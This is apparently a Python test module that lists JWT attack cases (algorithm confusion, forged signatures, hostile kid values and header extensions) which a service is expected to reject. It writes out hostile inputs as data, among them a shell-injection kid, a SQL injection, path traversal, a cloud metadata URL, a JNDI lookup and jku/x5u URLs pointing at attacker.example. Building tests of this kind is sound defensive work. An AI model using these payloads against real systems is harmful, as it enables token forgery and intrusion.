"""Tokens that want to choose the key or the algorithm: the service chooses both, by what it knows already."""

import json
from collections.abc import Callable

from joserfc.jwk import OctKey

from mysingle.testing.attacks._attack import Attack, Need, attack, refused
from mysingle.testing.attacks._forge import Forge
from mysingle.testing.attacks._tokens import TokenForge

__all__ = ["TOKEN_KEYS"]

_INVALID = refused("TOKEN_INVALID")

Make = Callable[[TokenForge], str]


def _public_pem(forge: TokenForge) -> bytes:
    return forge.signer.key.as_pem(private=False)


_MACS: dict[str, tuple[str, Callable[[TokenForge], bytes]]] = {
    "B03-pem": ("the public key as PEM", _public_pem),
    "B03-pem-stripped": ("the public key as PEM without its last line break", lambda forge: _public_pem(forge).strip()),
    "B03-der": ("the public key as DER", lambda forge: forge.signer.key.as_der(private=False)),
    "B03-jwk": ("the public key as a JWK", lambda forge: json.dumps(forge.signer.jwks()["keys"][0]).encode()),
    "B03-jwks": ("the whole JWK set", lambda forge: json.dumps(forge.signer.jwks()).encode()),
    "B03-coordinate": (
        "a coordinate of the public key",
        lambda forge: str(forge.signer.jwks()["keys"][0]["x"]).encode(),
    ),
    "B03-empty": ("an empty key", lambda forge: b""),
    "B03-kid": ("the id of the key", lambda forge: forge.signer.kid.encode()),
}
_ALGORITHMS: dict[str, tuple[str, Make]] = {
    "B04-says-rs256": ("says that his signature is RS256", lambda forge: forge.with_header(alg="RS256")),
    "B04-says-eddsa": ("says that his signature is EdDSA", lambda forge: forge.with_header(alg="EdDSA")),
    "B04-says-es384": ("says that his signature is ES384", lambda forge: forge.with_header(alg="ES384")),
    "B04-says-es256k": ("says that his signature is ES256K", lambda forge: forge.with_header(alg="ES256K")),
    "B04-says-hs256": ("says that his signature is HS256", lambda forge: forge.with_header(alg="HS256")),
    "B04-says-ps256": ("says that his signature is PS256", lambda forge: forge.with_header(alg="PS256")),
    "B04-small-letters": ("writes the algorithm in small letters", lambda forge: forge.with_header(alg="es256")),
    "B04-space": ("writes a space behind the algorithm", lambda forge: forge.with_header(alg="ES256 ")),
    "B04-list": ("names a list of algorithms", lambda forge: forge.with_header(alg=["ES256", "none"])),
    "B04-number": ("names a number as the algorithm", lambda forge: forge.with_header(alg=256)),
    "B04-absent": ("names no algorithm", lambda forge: forge.with_header(alg=None)),
    "B04-empty": ("names an empty algorithm", lambda forge: forge.with_header(alg="")),
    "B04-p384-as-es256": ("signs with P-384, and says ES256", lambda forge: forge.by_stranger("ES384", says="ES256")),
    "B04-rsa": ("signs with an RSA key of his own", lambda forge: forge.by_stranger("RS256")),
    "B04-ed25519": ("signs with an Ed25519 key of his own", lambda forge: forge.by_stranger("EdDSA")),
    "B04-symmetric": ("signs with a symmetric key of his own", lambda forge: forge.by_stranger("HS256")),
}
_KIDS: dict[str, tuple[str, object]] = {
    "B11-unknown": ("that nobody has", "unknown"),
    "B11-absent": ("that is not there", None),
    "B11-empty": ("that is empty", ""),
    "B11-traversal": ("that is a path", "../../../../../../dev/null"),
    "B11-file-url": ("that is the address of a file", "file:///dev/null"),
    "B11-url": ("that is an address", "https://attacker.example/jwks.json"),
    "B11-metadata": ("that is the address of the cloud's metadata", "http://169.254.169.254/latest/meta-data"),
    "B11-sql": ("that is SQL", "x' UNION SELECT 'key' --"),
    "B11-shell": ("that is a command", "x;touch /tmp/attacked|"),
    "B11-ldap": ("that is a lookup of a logger", "${jndi:ldap://attacker.example/x}"),
    "B11-nul": ("with a NUL", "k\x00ey"),
    "B11-10-kb": ("of 10 KB", "k" * 10_240),
    "B11-list": ("that is a list", ["k"]),
    "B11-object": ("that is an object", {"$ne": ""}),
    "B11-number": ("that is a number", 0),
    "B11-boolean": ("that is true", True),
    "B11-null-text": ("that is the word null", "null"),
    "B11-attribute": ("that is the name of an attribute", "__class__"),
}
_EXTENSIONS: dict[str, tuple[str, Make]] = {
    "B11-jku": ("says where its keys are", lambda forge: forge.with_header(jku="https://attacker.example/jwks.json")),
    "B11-jku-forged": (
        "signs with a key of his own, and says where it is",
        lambda forge: forge.by_stranger(jku="https://attacker.example/jwks.json"),
    ),
    "B11-x5u": ("says where its certificate is", lambda forge: forge.with_header(x5u="https://attacker.example/c.pem")),
    "B11-x5c": ("brings a certificate along", lambda forge: forge.with_header(x5c=["MIIB"])),
    "B11-jwk": ("brings a key along", lambda forge: forge.with_header(jwk=forge.stranger_jwk())),
    "B11-jwk-forged": (
        "signs with the key that he brings along",
        lambda forge: forge.by_stranger(jwk=forge.stranger_jwk()),
    ),
    "B11-jwk-symmetric": (
        "brings a symmetric key along",
        lambda forge: forge.by_stranger("HS256", jwk=_symmetric_jwk(forge)),
    ),
    "B11-forged": ("signs with a key of his own under our id", lambda forge: forge.by_stranger()),
    "B11-forged-new-id": (
        "signs with a key of his own under an id of his own",
        lambda forge: forge.by_stranger(kid="new"),
    ),
    "B13-crit": ("names an extension that has to be known", lambda forge: forge.with_header(crit=["exp"], exp=1)),
    "B13-crit-empty": ("names no extension that has to be known", lambda forge: forge.with_header(crit=[])),
    "B13-b64": ("says that the payload is not encoded", lambda forge: forge.with_header(b64=False, crit=["b64"])),
    "B13-b64-uncritical": ("says so without a warning", lambda forge: forge.with_header(b64=False)),
}


def _symmetric_jwk(forge: TokenForge) -> dict[str, object]:
    key = forge.strangers["HS256"]
    return dict(key.as_dict(private=True)) if isinstance(key, OctKey) else {}


def _sent(make: Make) -> Callable[[Forge], list[bytes]]:
    return lambda forge: forge.get(forge.bearer(make(forge.tokens)))


def _mac(key: Callable[[TokenForge], bytes]) -> Callable[[Forge], list[bytes]]:
    return _sent(lambda forge: forge.with_mac(key(forge)))


def _kid(value: object) -> Callable[[Forge], list[bytes]]:
    return _sent(lambda forge: forge.with_header(kid=value))


TOKEN_KEYS: tuple[Attack, ...] = (
    *(
        attack(name, f"signs with HS256 and {what}", _mac(key), _INVALID, needs=[Need.JWT])
        for name, (what, key) in _MACS.items()
    ),
    *(attack(name, does, _sent(make), _INVALID, needs=[Need.JWT]) for name, (does, make) in _ALGORITHMS.items()),
    *(
        attack(name, f"names a key {what}", _kid(value), _INVALID, needs=[Need.JWT])
        for name, (what, value) in _KIDS.items()
    ),
    *(attack(name, does, _sent(make), _INVALID, needs=[Need.JWT]) for name, (does, make) in _EXTENSIONS.items()),
)
